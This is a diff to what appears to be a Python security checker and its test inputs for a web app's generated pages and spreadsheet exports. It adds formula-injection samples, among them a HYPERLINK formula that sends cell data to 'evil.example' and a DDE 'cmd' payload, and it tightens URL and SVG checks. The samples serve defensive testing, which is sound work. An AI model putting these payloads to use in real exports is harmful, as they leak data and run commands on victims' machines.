@@ -79,6 +79,24 @@ PAYLOADS = (
     "\u2028alert(1)\u2029<script>",
     "\x1b[31m<script>alert(1)</script>",
 )
+# What a spreadsheet would take for a formula (F61); numbers with a sign are none.
+FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    '=HYPERLINK("https://evil.example/?x="&A1,"Hier")',
+    "=cmd|' /C calc'!A0",
+    "+49 661 1234",
+    "-x",
+    "＝1+1",
+)
+NUMBERS = ("-5", "+5", "-1.234,5", "-0.5", "-5 %", "1")
 # Addresses that no link may lead to.
 ADDRESSES = (
     "javascript:alert(1)",
@@ -93,6 +111,24 @@ _HARMLESS = ("http://", "https://", "mailto:", "tel:", "/", "#")
 _RUNNING = {"script", "iframe", "object", "embed", "base", "svg", "math", "template", "frame", "applet", "marquee"}
 
 
+_DRAWINGS = {"chart", "curve", "map-drawing"}
+_SHAPES = {
+    "svg",
+    "g",
+    "title",
+    "desc",
+    "path",
+    "line",
+    "polyline",
+    "polygon",
+    "rect",
+    "circle",
+    "text",
+    "tspan",
+    "defs",
+    "clippath",
+}
+_PICTURE = re.compile(r"(/[\w.-]+)+/(qr\.svg|picture)(\?v=[\w-]+)?")  # one of ours, at an address of ours
 _OURS = re.compile(r"/assets/[\w./-]+\.js\?v=[0-9a-f]{12}")  # a script of ours: a file, its version, no text inside
 
 
@@ -102,26 +138,24 @@ def dangers(page: str) -> Iterator[str]:
         attributes = {name: value or "" for name, value in node.attributes.items()}
         data = (node.tag, attributes.get("type")) == ("script", "application/ld+json")
         ours = node.tag == "script" and _OURS.fullmatch(attributes.get("src", "")) and not node.text().strip()
-        if node.tag in _RUNNING and not data and not ours and not _is_our_curve(node):
+        if node.tag in _RUNNING and not data and not ours and not _is_our_drawing(node):
             yield f"<{node.tag}>"
         for name, value in attributes.items():
             if name.startswith("on") or name in ("style", "srcdoc", "formaction", "xlink:href", "srcset", "ping"):
                 yield f"{node.tag} {name}={value}"
-            if name == "href" and not value.startswith(_HARMLESS):
+            if name == "href" and (not value.startswith(_HARMLESS) or value.startswith("//")):
                 yield f"{node.tag} href={value}"
             stylesheet = node.tag == "link" and attributes.get("rel") == "stylesheet" and name == "href"
-            if (name == "src" or stylesheet) and not value.startswith("/assets/"):
+            picture = node.tag == "img" and name == "src" and _PICTURE.fullmatch(value)
+            if (name == "src" or stylesheet) and not value.startswith("/assets/") and not picture:
                 yield f"{node.tag} {name}={value}"
-            if name == "action" and not value.startswith("/"):
+            if name == "action" and (not value.startswith("/") or value.startswith("//")):
                 yield f"{node.tag} action={value}"
         if node.tag == "meta" and "http-equiv" in attributes:
             yield "meta http-equiv"
 
 
-def _is_our_curve(node: LexborNode) -> bool:
-    """The one drawing of ours: a line in a frame with words, and nothing else."""
-    parent = node.parent
-    if node.tag != "svg" or parent is None or parent.tag != "figure" or node.attributes.get("class") != "curve":
-        return False
-    inside = [(child.tag, set(child.attributes)) for child in node.css("*") if child.tag != "svg"]
-    return inside == [("title", {"id"}), ("desc", {"id"}), ("polyline", {"points", "vector-effect"})]
+def _is_our_drawing(node: LexborNode) -> bool:
+    """A drawing of ours: of shapes and words alone; what could run in it is seen at each node."""
+    kind = (node.attributes.get("class") or "").partition(" ")[0]
+    return node.tag == "svg" and kind in _DRAWINGS and {child.tag for child in node.css("*")} <= _SHAPES
